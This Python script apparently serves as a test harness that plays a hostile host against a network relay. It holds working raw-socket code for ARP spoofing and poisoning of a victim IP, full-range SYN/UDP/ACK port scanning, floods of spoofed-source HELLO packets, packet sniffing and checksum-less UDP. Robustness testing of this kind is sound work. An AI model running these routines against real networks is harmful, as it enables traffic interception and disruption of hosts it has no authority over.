# SPDX-License-Identifier: BSD-2-Clause
"""A hostile host on a leg of the relay.

usage: _hostile.py INTERFACE RELAY_IP RELAY_MAC OWN_IP WHAT [ARGUMENTS]

  arp VICTIM_IP SECONDS RATE   claims VICTIM_IP for our MAC: requests, answers and gratuitous
                               ones by turns, and answers every question about it
  scan                         SYN, UDP and ACK to every port; prints what was answered
  hello PREFIX SECONDS RATE    HELLO from invented addresses of PREFIX (10.77.0.0/16); prints
                               how many came back to us, and how many ARP requests were seen
  sniff FILE                   the first HELLO to the relay that goes out here, into FILE
  sumless COUNT PORT           datagrams without a UDP checksum
"""
import random
import select
import socket
import struct
import sys
import time

ifname, relay_ip, relay_mac, own_ip, what = sys.argv[1:6]
args = sys.argv[6:]
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
sock.bind((ifname, 3))
sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
own_mac = sock.getsockname()[4]
mac = bytes.fromhex(relay_mac.replace(":", ""))
relay, own = socket.inet_aton(relay_ip), socket.inet_aton(own_ip)
ALL = b"\xff" * 6


def cksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip(payload, proto, frm=own):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0, frm, relay)
    return h[:10] + struct.pack("!H", cksum(h)) + h[12:] + payload


def udp(data, sport, dport, frm=own, summed=True):
    n = 8 + len(data)
    h = struct.pack("!HHHH", sport, dport, n, 0)
    c = cksum(frm + relay + struct.pack("!BBH", 0, 17, n) + h + data) or 0xFFFF
    return h[:6] + struct.pack("!H", c if summed else 0) + data


def tcp(dport, flags, frm=own):
    h = struct.pack("!HHIIBBHHH", 4000, dport, 1, 1, 0x50, flags, 1000, 0, 0)
    c = cksum(frm + relay + struct.pack("!BBH", 0, 6, len(h)) + h)
    return h[:16] + struct.pack("!H", c) + h[18:]


def eth(payload, kind=0x0800, to=mac):
    return to + own_mac + struct.pack("!H", kind) + payload


def arp(op, spa, tha, tpa, to=mac):
    return eth(struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, own_mac, spa, tha, tpa), 0x0806, to)


def frames(until):
    """What comes in until then."""
    while True:
        left = until - time.monotonic()
        if not select.select([sock], [], [], max(0, left))[0]:
            return
        frame, where = sock.recvfrom(9000)
        if where[2] != socket.PACKET_OUTGOING:
            yield frame


def do_arp(victim, seconds, rate):
    victim = socket.inet_aton(victim)
    lies = [arp(2, victim, mac, relay), arp(1, victim, bytes(6), relay), arp(2, victim, ALL, victim, ALL),
            arp(1, victim, bytes(6), victim, ALL)]
    end, n, stolen = time.monotonic() + seconds, 0, 0
    while time.monotonic() < end:
        sock.send(lies[n % len(lies)])
        n += 1
        for frame in frames(time.monotonic() + 1 / rate):
            if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\1" and frame[38:42] == victim:
                sock.send(arp(2, victim, frame[22:28], frame[28:32], frame[6:12]))
            elif frame[12:14] == b"\x08\0" and frame[30:34] == victim and frame[:6] == own_mac:
                stolen += 1
    print(f"lies {n} stolen {stolen}")


def do_scan():
    answered = set()
    for port in range(1, 65536):
        sock.send(eth(ip(tcp(port, 2), 6)))
        sock.send(eth(ip(tcp(port, 16), 6)))
        if port != 7812:
            sock.send(eth(ip(udp(b"x", 4000, port), 17)))
        if port % 16 == 0:
            answered |= set(told(time.monotonic() + 0.001))
    answered |= set(told(time.monotonic() + 2))
    print("answered", *sorted(answered))


def told(until):
    for frame in frames(until):
        if frame[12:14] == b"\x08\0" and frame[26:30] == relay:
            if frame[23] == 6:
                yield "tcp/%d" % struct.unpack("!H", frame[34:36])
            elif frame[23] == 17:
                yield "udp/%d" % struct.unpack("!H", frame[34:36])
            else:
                yield "icmp"


def do_hello(prefix, seconds, rate):
    net, length = prefix.split("/")
    base = struct.unpack("!I", socket.inet_aton(net))[0]
    rng, end, n, back, asked = random.Random(7), time.monotonic() + seconds, 0, 0, 0
    hello = open(args[3], "rb").read()
    while time.monotonic() < end:
        frm = struct.pack("!I", base | rng.randrange(256, (1 << 32 - int(length)) - 256))
        sock.send(eth(ip(udp(hello, 7812, 7812, frm), 17, frm)))
        n += 1
        for frame in frames(time.monotonic() + 1 / rate):
            if frame[12:14] == b"\x08\x06":
                asked += frame[:6] == ALL
            elif frame[12:14] == b"\x08\0" and frame[26:30] == relay and frame[23] == 17:
                back += 1
    print(f"hellos {n} cookies {back} broadcasts {asked}")


def do_sniff(path):
    print("listening", flush=True)
    while True:
        frame = sock.recv(9000)
        if frame[12:14] == b"\x08\0" and frame[23] == 17 and frame[30:34] == relay and frame[42] & 15 == 1:
            open(path, "wb").write(frame[42:])
            return


if what == "arp":
    do_arp(args[0], float(args[1]), float(args[2]))
elif what == "scan":
    do_scan()
elif what == "hello":
    do_hello(args[0], float(args[1]), float(args[2]))
elif what == "sniff":
    do_sniff(args[0])
elif what == "sumless":
    for _ in range(int(args[0])):
        sock.send(eth(ip(udp(b"x" * 40, 4000, int(args[1]), summed=False), 17)))
        time.sleep(0.001)
